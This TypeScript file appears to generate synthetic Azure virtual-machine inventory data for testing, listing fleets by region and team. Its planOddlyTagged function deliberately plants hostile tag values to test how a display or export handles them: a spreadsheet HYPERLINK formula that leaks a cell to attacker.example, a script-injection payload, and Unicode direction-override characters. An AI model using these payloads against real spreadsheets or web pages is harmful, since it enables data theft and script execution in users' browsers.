import { machinesAt, thingsAt } from '../../growth';
import type { Team } from '../../tags';
import type { Region, SubscriptionName } from '../geography';
import { machineSizeOf } from '../machine-sizes';
import { buildMachine } from './build-machine';
import { beforeEpoch, drawsFor, groundOf, grounds, numbered, type PlanContext } from './plan';

interface Fleet {
  subscription: SubscriptionName;
  region: Region;
  prefix: string;
  size: string;
  count: number;
  team: Team;
  dataDisksGiB?: readonly number[];
}

/** Virtual machines that belong to no scale set. */
export const fleets: readonly Fleet[] = [
  fleet('training', 'eastus', 'pretrain-h100', 'Standard_ND96isr_H100_v5', 4, 'foundation-models', [4096]),
  fleet('training', 'eastus', 'tokenizer', 'Standard_F16s_v2', 48, 'data-platform', [1024, 1024]),
  fleet('training', 'southcentralus', 'dedup', 'Standard_E16s_v5', 40, 'data-platform', [2048]),
  fleet('training', 'swedencentral', 'loader', 'Standard_D16s_v5', 36, 'ml-platform', [1024]),
  fleet('serving', 'eastus', 'gateway', 'Standard_D8s_v5', 36, 'inference', [256]),
  fleet('serving', 'eastus', 'kafka', 'Standard_E16s_v5', 24, 'data-platform', [4096, 4096]),
  fleet('serving', 'northeurope', 'gateway', 'Standard_D8s_v5', 32, 'inference', [256]),
  fleet('serving', 'northeurope', 'feature-store', 'Standard_E16s_v5', 28, 'recommendation', [1024]),
  fleet('serving', 'germanywestcentral', 'gateway', 'Standard_D8s_v5', 28, 'inference', [256]),
  fleet('serving', 'germanywestcentral', 'search-shard', 'Standard_E16s_v5', 30, 'search', [2048]),
  fleet('research', 'southcentralus', 'workstation-a100', 'Standard_NC24ads_A100_v4', 6, 'applied-research', [1024]),
  fleet('research', 'northeurope', 'notebook', 'Standard_D16s_v5', 44, 'speech', [512]),
  fleet('research', 'swedencentral', 'labelling', 'Standard_D8s_v5', 40, 'vision', [512]),
  fleet('shared', 'eastus', 'monitoring', 'Standard_D16s_v5', 30, 'site-reliability', [1024]),
  fleet('shared', 'northeurope', 'build-agent', 'Standard_F16s_v2', 44, 'ml-platform', [1024]),
  fleet('shared', 'germanywestcentral', 'directory', 'Standard_D4ds_v5', 18, 'site-reliability', [128]),
];

/** Machines of every fleet, a bastion on every ground, and a few whose tags mean to trick whoever shows them. */
export function planMachines(context: PlanContext): void {
  for (const each of fleets) planFleet(context, each);
  for (const { subscription, region } of grounds) {
    planFleet({ ...context, scale: 1 }, fleet(subscription, region, 'bastion', 'Standard_B2s', 1, 'site-reliability'));
  }
  planOddlyTagged(context);
}

function planFleet({ seed, scale, standing }: PlanContext, each: Fleet): void {
  const ground = groundOf(each.subscription, each.region);
  const count = machineSizeOf(each.size).accelerator ? machinesAt(each.count, scale) : thingsAt(each.count, scale);
  for (let number = 1; number <= count; number++) {
    const name = numbered(each.prefix, number);
    const createdAt = beforeEpoch(drawsFor(seed, ground, 'created', name).integer(1, 300));
    const { size, team, dataDisksGiB } = each;
    const resourceGroup = `rg-${each.prefix}-${each.region}`;
    standing.push(
      ...buildMachine({ seed, ground, name, key: name, resourceGroup, size, team, createdAt, dataDisksGiB }),
    );
  }
}

function planOddlyTagged({ seed, standing }: PlanContext): void {
  const ground = groundOf('research', 'northeurope');
  const odd: Record<string, string>[] = [
    { purpose: '=HYPERLINK("https://attacker.example/?leak="&A1,"Open")', note: '@SUM(1+1)' },
    { purpose: '"><img src=x onerror=alert(1)><script>alert(2)</script>' },
    { purpose: 'right-to-left \u202Eoverride\u202C and zero\u200Bwidth', 'Kosten stelle': 'Straße & <Söhne>' },
    { Owner: 'yuki.sato@millwright.example', 'hidden-title': '' },
  ];
  for (const [index, extraTags] of odd.entries()) {
    const name = numbered('tag-test', index + 1);
    const createdAt = beforeEpoch(40 + index);
    const where = { resourceGroup: 'RG-Tag-Tests', size: 'Standard_D4ds_v5', team: 'applied-research' } as const;
    standing.push(...buildMachine({ seed, ground, name, key: name, createdAt, extraTags, ...where }));
  }
}

function fleet(
  subscription: SubscriptionName,
  region: Region,
  prefix: string,
  size: string,
  count: number,
  team: Team,
  dataDisksGiB: readonly number[] = [],
): Fleet {
  return { subscription, region, prefix, size, count, team, dataDisksGiB };
}
